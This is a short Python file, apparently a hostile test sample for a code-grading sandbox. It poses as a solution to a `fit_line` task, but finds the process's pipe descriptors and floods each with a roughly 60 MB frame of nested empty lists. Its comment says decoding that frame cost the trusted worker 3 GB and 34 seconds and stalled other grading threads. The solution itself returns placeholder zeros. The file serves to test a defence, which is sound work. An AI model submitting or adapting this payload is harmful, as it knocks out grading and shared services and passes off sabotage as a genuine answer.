# Answer the first request with a frame just under the byte cap made of millions of empty lists:
# decoding it took the trusted worker 3 GB and 34 s (measured), holding the GIL the web app and
# the other grading threads need. The trusted side must refuse it from a cheap count first.
import os
import struct

N = (60 << 20) // 3
frame = b"[" + b"[]," * N + b"[]]"
channels = []
for fd in range(3, 64):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
            channels.append(fd)
    except OSError:
        pass


def fit_line(x, y):
    for fd in channels:
        try:
            os.write(fd, struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass
    return 0.0, 0.0
